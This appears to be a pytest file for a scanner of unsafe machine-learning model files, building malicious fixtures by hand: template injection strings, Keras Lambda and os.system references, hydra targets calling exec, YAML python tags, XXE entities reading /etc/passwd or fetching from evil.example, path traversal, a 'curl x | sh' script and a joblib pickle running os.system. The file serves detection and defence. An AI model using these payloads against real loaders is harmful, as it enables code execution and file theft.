"""Formats other than pickle, both ways; every file is written by hand, field by field."""
# ruff: noqa: E501, PT018  # one case a line reads as a table

from __future__ import annotations

import base64
import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Callable

import pytest

from tests import skips

Look = Callable[..., object]


def varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def field(number: int, value: bytes | str | int) -> bytes:
    """One protobuf field."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    data = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(data)) + data


def saved_model(*operations: str) -> bytes:
    nodes = b"".join(field(1, field(1, f"n{i}") + field(2, name)) for i, name in enumerate(operations))
    meta = field(1, field(4, "serve")) + field(2, nodes)
    return field(1, 1) + field(2, meta)


def onnx(operator: str = "Add", domain: str = "", location: str = "") -> bytes:
    node = field(1, "a") + field(2, "b") + field(4, operator) + (field(7, domain) if domain else b"")
    tensor = field(1, 1) + field(2, 1) + field(8, "w")
    if location:
        tensor += field(13, field(1, "location") + field(2, location)) + field(14, 1)
    return (
        field(1, 8)
        + field(2, "pytorch")
        + field(7, field(1, node) + field(2, "main") + field(5, tensor))
        + field(8, field(2, 17))
    )


def safetensors(header: dict[str, object] | bytes, data: bytes = b"") -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


GOOD_HEADER = {"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}


def gguf(template: str) -> bytes:
    def string(text: str) -> bytes:
        return struct.pack("<Q", len(text.encode())) + text.encode()

    pairs = string("general.architecture") + struct.pack("<I", 8) + string("llama")
    pairs += string("tokenizer.chat_template") + struct.pack("<I", 8) + string(template)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + pairs


def tflite(custom: str = "") -> bytes:
    """A flatbuffer with one operator code; its custom name is optional."""
    name = struct.pack("<I", len(custom)) + custom.encode() + b"\0" if custom else b""
    # root -> Model{version, operator_codes} ; vtable first
    body = bytearray(struct.pack("<I4s", 20, b"TFL3"))
    body += struct.pack("<HHHH", 8, 12, 4, 8)  # vtable at 8: size, table size, version, operator_codes
    body += b"\0" * 4
    body += struct.pack("<iII", 20 - 8, 3, 4)  # table at 20; vector at 28 + 4 = 32
    body += struct.pack("<II", 1, 16)  # vector at 32: one element at 36 -> 52
    body += struct.pack("<HHHHHH", 12, 12, 8 if not custom else 0, 4 if custom else 0, 0, 0)  # vtable at 40
    body += struct.pack("<iII", 52 - 40, 8 if custom else 0, 0)  # table at 52; name at 56 + 8 = 64
    return bytes(body + name)


def keras_layer(**layer: object) -> str:
    return json.dumps(
        {
            "class_name": "Sequential",
            "config": {"name": "m", "layers": [layer]},
            "module": "keras",
            "registered_name": None,
        }
    )


def keras(config: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("metadata.json", "{}")
        archive.writestr("config.json", config)
        archive.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n\0\0\0\0\0\x08\x08" + b"\0" * 64)
    return out.getvalue()


def h5(config: str) -> bytes:
    return b"\x89HDF\r\n\x1a\n\0\0\0\0\0\x08\x08" + b"\0" * 500 + config.encode() + b"\0" * 300


LAMBDA = keras_layer(
    class_name="Lambda",
    module="keras.layers",
    config={"function": {"class_name": "__lambda__", "config": {"code": "4wEA"}}},
)
OLD_LAMBDA = json.dumps(
    {
        "class_name": "Model",
        "config": {
            "layers": [
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "x",
                        "function": ["4wEAAAAAAAAAAAAAAAEAAAACAAAA", None, None],
                        "function_type": "lambda",
                    },
                }
            ]
        },
    }
)
DENSE = keras_layer(
    class_name="Dense",
    module="keras.layers",
    registered_name=None,
    config={
        "units": 1,
        "activation": "relu",
        "kernel_initializer": {
            "module": "keras.initializers",
            "class_name": "GlorotUniform",
            "config": {"seed": None},
            "registered_name": None,
        },
    },
)
EVIL_MODULE = keras_layer(class_name="function", module="os", config="system", registered_name="system")


def archive(kind: str, **files: str) -> bytes:
    out = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(out, "w") as target:
            for name, content in files.items():
                target.writestr(name.replace("__", "/"), content)
    else:
        with tarfile.open(fileobj=out, mode="w") as target:
            for name, content in files.items():
                info = tarfile.TarInfo(name.replace("__", "."))
                info.size = len(content)
                target.addfile(info, io.BytesIO(content.encode()))
    return out.getvalue()


SSTI = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
CHAT = "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] | trim }}{% endfor %}{% if add_generation_prompt %}x{% endif %}"

BAD: dict[str, tuple[str, bytes, str]] = {
    "savedmodel WriteFile": ("saved_model.pb", saved_model("MatMul", "WriteFile"), "graph-escape"),
    "savedmodel PyFunc": ("x.bin", saved_model("PyFunc"), "graph-escape"),
    "savedmodel table from file": ("saved_model.pb", saved_model("InitializeTableFromTextFile"), "graph-outside"),
    "onnx foreign domain": ("m.onnx", onnx(domain="evil.ops", operator="Run"), "custom-operator"),
    "onnx renamed": ("m.dat", onnx(domain="evil.ops", operator="Run"), "custom-operator"),
    "onnx python operator": ("m.onnx", onnx(domain="com.microsoft", operator="PyOp"), "graph-escape"),
    "CVE-2022-25882 onnx external data climbs": ("m.onnx", onnx(location="../../etc/passwd"), "path-escape"),
    "CVE-2024-27318 onnx external data climbs later": ("m.onnx", onnx(location="weights/../../etc/passwd"), "path-escape"),
    "onnx external data absolute": ("m.onnx", onnx(location="/etc/passwd"), "path-escape"),
    "tflite custom operator": ("m.tflite", tflite("EvilOp"), "custom-operator"),
    "tflite flex": ("m.bin", tflite("FlexWriteFile"), "graph-escape"),
    "safetensors header overflow": ("m.safetensors", struct.pack("<Q", 1 << 39) + b"{}", "malformed"),
    "safetensors trailing data": ("m.safetensors", safetensors(GOOD_HEADER, b"\0" * 8), "trailing-data"),
    "safetensors overlap": ("m.safetensors", safetensors({**GOOD_HEADER, "v": GOOD_HEADER["w"]}, b"\0" * 4), "malformed"),
    "safetensors duplicate key": ("m.safetensors", safetensors(b'{"w":{"dtype":"U8","shape":[0],"data_offsets":[0,0]},"w":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}'), "malformed"),
    "safetensors metadata script": ("m.safetensors", safetensors({"__metadata__": {"x": "__import__('os').system('id')"}, **GOOD_HEADER}, b"\0" * 4), "script-text"),
    "safetensors with a zip": ("m.safetensors", safetensors(GOOD_HEADER, b"\0" * 4) + archive("zip", a="b"), "polyglot"),
    "CVE-2024-34359 gguf template": ("m.gguf", gguf(SSTI), "template-escape"),
    "gguf truncated": ("m.gguf", gguf(CHAT)[:-9], "malformed"),
    "CVE-2024-3660 keras Lambda": ("m.keras", keras(LAMBDA), "keras-lambda"),
    "CVE-2025-9905 h5 Lambda": ("m.h5", h5(OLD_LAMBDA), "keras-lambda"),
    "CVE-2025-1550 keras module": ("m.keras", keras(EVIL_MODULE), "keras-module"),
    "a module as in CVE-2025-1550, in h5": ("weights.bin", h5(EVIL_MODULE), "keras-module"),
    "CVE-2025-8747 keras get_file": ("m.keras", keras(keras_layer(class_name="function", module="keras.utils", config="get_file")), "keras-module"),
    "CVE-2025-9906 enable unsafe": ("m.keras", keras(keras_layer(class_name="function", module="keras.config", config="enable_unsafe_deserialization")), "keras-module"),
    "CVE-2025-49655 TorchModuleWrapper": ("m.keras", keras(keras_layer(class_name="TorchModuleWrapper", module="keras.layers", config={"module": "gA"})), "keras-module"),
    "CVE-2025-12058 vocabulary path": ("m.keras", keras(keras_layer(class_name="StringLookup", module="keras.layers", config={"vocabulary": "/etc/passwd"})), "outside-file"),
    "keras custom object": ("m.keras", keras(keras_layer(class_name="Evil", module=None, registered_name="pkg>Evil", config={})), "keras-custom-object"),
    "keras builtins": ("config.json", EVIL_MODULE.replace('"os"', '"builtins"').replace("system", "eval").encode(), "keras-module"),
    "auto_map": ("config.json", b'{"model_type": "x", "auto_map": {"AutoModel": "modeling.Evil"}}', "remote-code"),
    "auto_map renamed": ("whatever.txt", b'{"auto_map": {"AutoModel": "modeling.Evil"}}', "remote-code"),
    "trust_remote_code": ("config.json", b'{"trust_remote_code": true}', "remote-code"),
    "custom_pipelines": ("config.json", b'{"custom_pipelines": {"x": {"impl": "p.Pipe"}}}', "remote-code"),
    "diffusers component": ("model_index.json", b'{"_class_name": "P", "_diffusers_version": "0.1", "unet": ["evil", "Net"]}', "remote-code"),
    "duplicate key in config": ("config.json", b'{"model_type": "x", "auto_map": {}, "auto_map": {"AutoModel": "m.E"}}', "malformed"),
    "shards outside": ("model.safetensors.index.json", b'{"weight_map": {"a": "../../secret"}}', "path-escape"),
    "tokenizer file outside": ("tokenizer_config.json", b'{"tokenizer_class": "X", "vocab_file": "../../etc/passwd"}', "path-escape"),
    "tokenizer template": ("tokenizer_config.json", json.dumps({"chat_template": SSTI}).encode(), "template-escape"),
    "named templates": ("renamed.json", json.dumps({"chat_template": [{"name": "d", "template": CHAT}, {"name": "t", "template": SSTI}]}).encode(), "template-escape"),
    "template file": ("chat_template.jinja", SSTI.encode(), "template-escape"),
    "template renamed": ("prompt.txt", SSTI.encode(), "template-escape"),
    "hydra target": ("conf.yaml", b"model:\n  _target_: os.system\n  command: id\n", "dangerous-call"),
    "hydra target in json": ("conf.json", b'{"_target_": "builtins.eval", "x": "1"}', "dangerous-call"),
    "hydra unlisted": ("conf.yml", b"_target_: some.package.run\n", "unlisted-call"),
    "CVE-2025-23304 nemo": ("m.nemo", archive("tar", model_config__yaml="_target_: subprocess.Popen\n"), "dangerous-call"),
    "CVE-2026-22584 uni2ts": ("config.json", b'{"distr_output": {"_target_": "builtins.exec", "_args_": ["x"]}}', "dangerous-call"),
    "hydra target in safetensors metadata (ml-flextok)": ("m.safetensors", safetensors({"__metadata__": {"config": str({"_target_": "builtins.exec", "x": None})}, **GOOD_HEADER}, b"\0" * 4), "dangerous-call"),
    "hydra target in safetensors metadata as json": ("m.safetensors", safetensors({"__metadata__": {"config": json.dumps({"_target_": "os.system", "x": [1]})}, **GOOD_HEADER}, b"\0" * 4), "dangerous-call"),
    "hydra target as safetensors metadata": ("m.safetensors", safetensors({"__metadata__": {"_target_": "os.system"}, **GOOD_HEADER}, b"\0" * 4), "dangerous-call"),
    "auto_map behind an escape": ("config.json", b'{"\\u0061uto_map": {"AutoModel": "modeling.Evil"}}', "remote-code"),
    "yaml tag": ("conf.yaml", b"a: !!python/object/apply:os.system ['id']\n", "yaml-python-tag"),
    "skops": ("m.skops", archive("zip", schema__json='{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {}}').replace(b"schema/json", b"schema.json"), "dangerous-import"),
    "CVE-2025-54412 skops operator of another module": ("m.skops", archive("zip", **{"schema.json": json.dumps({"__class__": "call", "__module__": "sklearn.linear_model._logistic", "__loader__": "OperatorFuncNode"})}), "unlisted-call"),
    "CVE-2025-54413 skops method": ("m.skops", archive("zip", **{"schema.json": json.dumps({"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic", "__loader__": "MethodNode", "content": {"func": "__reduce__", "obj": {}}})}), "unlisted-call"),
    "mar handler": ("m.mar", archive("zip", **{"MAR-INF__MANIFEST.json": '{"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "evil.py"}}'}), "serving-handler"),
    "Modelfile path": ("Modelfile", b"FROM /etc/passwd\nPARAMETER temperature 1\n", "path-escape"),
    "Modelfile climbs": ("Modelfile", b"FROM llama3\nADAPTER ../../x.gguf\n", "path-escape"),
    "Modelfile fetches": ("Modelfile", b"FROM http://evil.example/x.gguf\nSYSTEM hi\n", "outside-file"),
    "PMML XXE": ("m.pmml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><PMML version="4.4">&a;</PMML>', "xml-entity"),
    "PMML XXE in UTF-16": ("m.pmml", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///x">]><PMML/>'.encode("utf-16"), "xml-entity"),
    "OpenVINO XXE": ("m.xml", b'<?xml version="1.0"?><!DOCTYPE net SYSTEM "http://evil.example/x.dtd"><net name="m" version="11"></net>', "xml-entity"),
    "billion laughs": ("m.xml", b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><PMML>&b;</PMML>', "xml-entity"),
    "OpenVINO library": ("m.xml", b'<net name="m"><layers><layer library="/tmp/evil.so"/></layers></net>', "path-escape"),
    "a program named as a model": ("model.bin", b"\x7fELF" + b"\0" * 60, "program"),
    "torch zip with a script": ("m.pt", archive("zip", **{"m__data__0": "x", "m__data.pkl": "N.", "m__evil.py": "import os"}), "carried-code"),
    "torchscript reads a file": ("m.pt", archive("zip", **{"m__version": "3", "m__constants.pkl": "N.", "m__code__t.py": "def f(x):\n  return torch.from_file('/etc/passwd')"}), "torchscript-escape"),
}  # fmt: skip

GOOD: dict[str, tuple[str, bytes]] = {
    "savedmodel": ("saved_model.pb", saved_model("MatMul", "Relu", "SaveV2", "RestoreV2", "VarHandleOp", "StatefulPartitionedCall")),
    "onnx": ("m.onnx", onnx()),
    "onnx external data": ("m.onnx", onnx(location="weights.bin")),
    "onnx microsoft": ("m.onnx", onnx(domain="com.microsoft", operator="FusedMatMul")),
    "tflite": ("m.tflite", tflite()),
    "tflite known custom": ("m.tflite", tflite("TFLite_Detection_PostProcess")),
    "safetensors": ("m.safetensors", safetensors(GOOD_HEADER, b"\0" * 4)),
    "safetensors metadata": ("m.safetensors", safetensors({"__metadata__": {"format": "pt"}, **GOOD_HEADER}, b"\0" * 4)),
    "safetensors configuration": ("m.safetensors", safetensors({"__metadata__": {"config": str({"_target_": "torch.nn.Linear", "bias": None}), "ss_tag_frequency": '{"a": {"b: c": 1}}', "note": "see handler.py: it sets model_type"}, **GOOD_HEADER}, b"\0" * 4)),
    "gguf": ("m.gguf", gguf(CHAT)),
    "keras": ("m.keras", keras(DENSE)),
    "h5": ("m.h5", h5(DENSE)),
    "h5 without configuration": ("m.h5", b"\x89HDF\r\n\x1a\n\0\0\0\0\0\x08\x08" + b"\0" * 500),
    "config": ("config.json", b'{"model_type": "llama", "architectures": ["LlamaForCausalLM"], "hidden_size": 4}'),
    "tokenizer": ("tokenizer_config.json", json.dumps({"tokenizer_class": "X", "chat_template": CHAT, "special_tokens_map_file": "/root/.cache/x.json"}).encode()),
    "index": ("model.safetensors.index.json", b'{"weight_map": {"a": "model-00001-of-00002.safetensors"}}'),
    "hydra": ("conf.yaml", b"optim:\n  _target_: torch.optim.AdamW\n  lr: 0.1\n"),
    "diffusers": ("model_index.json", b'{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.1", "unet": ["diffusers", "UNet2DConditionModel"]}'),
    "skops": ("m.skops", archive("zip", **{"schema.json": '{"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic", "__loader__": "ObjectNode", "content": {}}'})),
    "mar": ("m.mar", archive("zip", **{"MAR-INF__MANIFEST.json": '{"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "image_classifier"}}'})),
    "Modelfile": ("Modelfile", b"FROM llama3\nPARAMETER temperature 1\nSYSTEM you are kind\n"),
    "PMML": ("m.pmml", b'<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/></PMML>'),
    "OpenVINO": ("m.xml", b'<?xml version="1.0"?><net name="m" version="11"><layers/></net>'),
}  # fmt: skip

UNLISTED: dict[str, tuple[str, bytes]] = {
    "Dockerfile": ("Dockerfile", b"FROM python:3.12\nRUN pip install x\nCOPY . /app\n"),
    "package.json": (
        "package.json",
        b'{"name": "x", "scripts": {"a": "curl x | sh"}, "path": "../x", "handler": "index.main"}',
    ),
    "an XHTML page": (
        "x.xml",
        b'<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0" "http://www.w3.org/x.dtd"><html/>',
    ),
    "python source": ("x.py", b"import os\nos.system('id')\n"),
    "a README about templates": ("README.md", b"Never write {{ ''.__class__ }} in a template.\n"),
    "a web template": ("page.html", b"{% for x in y %}{{ x.__class__ }}{% endfor %}"),
    "a picture": ("x.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 20),
}


def needs_jinja(name: str) -> None:
    if "template" in name or name in {"gguf", "tokenizer", "gguf truncated", "named templates"}:
        skips.module("jinja2")


@pytest.mark.parametrize("case", BAD)
def test_the_bad_example_is_found(look: Look, case: str) -> None:
    needs_jinja(case)
    name, data, rule = BAD[case]
    said = look(data, name)
    assert rule in said.rules and said.outcome in {"malicious", "review"}, said


@pytest.mark.parametrize("case", GOOD)
def test_the_good_example_is_ok(look: Look, case: str) -> None:
    needs_jinja(case)
    name, data = GOOD[case]
    said = look(data, name)
    assert said.outcome == "ok" and not said.evidence.skips, said


@pytest.mark.parametrize("case", UNLISTED)
def test_what_is_no_model_is_not_listed(look: Look, case: str) -> None:
    name, data = UNLISTED[case]
    said = look(data, name)
    assert said.format == "" and not said.rules, said


def test_a_joblib_payload_behind_an_array_is_seen(look: Look) -> None:
    dtype = b"cnumpy\ndtype\nX\x02\x00\x00\x00f8K\x00K\x01\x87R(K\x03X\x01\x00\x00\x00<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"

    def text(value: str) -> bytes:
        return b"X" + struct.pack("<I", len(value)) + value.encode()

    state = b"}(" + text("shape") + b"K\x04\x85" + text("dtype") + dtype + text("order") + text("C") + b"u"
    wrapper = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + state + b"b"
    array = b"\xff" * 32
    assert look(b"\x80\x02](" + wrapper + array + b"e.", "m.joblib").outcome == "ok"
    said = look(b"\x80\x02](" + wrapper + array + b"cos\nsystem\n" + text("id") + b"\x85Re.", "m.joblib")
    assert said.outcome == "malicious"
    assert "os.system('id')" in said.calls
    assert base64.b64encode(array)  # the array itself is never looked at as a pickle


@pytest.mark.parametrize(
    ("superblock", "rules"),
    [
        (b"\x00\x00\x00\x00\x00\x08\x08\x00", set()),
        (b"\x02\x08\x08\x00" + bytes(4), set()),
        (b"\x03\x04\x08\x00" + bytes(4), set()),
        (b"\x09\x08\x08\x00" + bytes(4), {"malformed"}),
        (b"\x00\x00\x00\x00\x00\x07\x08\x00", {"malformed"}),
        (b"", {"malformed"}),
    ],
)
def test_the_signature_of_hdf5_alone_is_no_model(look: Look, superblock: bytes, rules: set[str]) -> None:
    data = b"\x89HDF\r\n\x1a\n" + superblock + b"\xff" * 600 * bool(superblock)
    assert set(look(data, "a.h5").rules) == rules
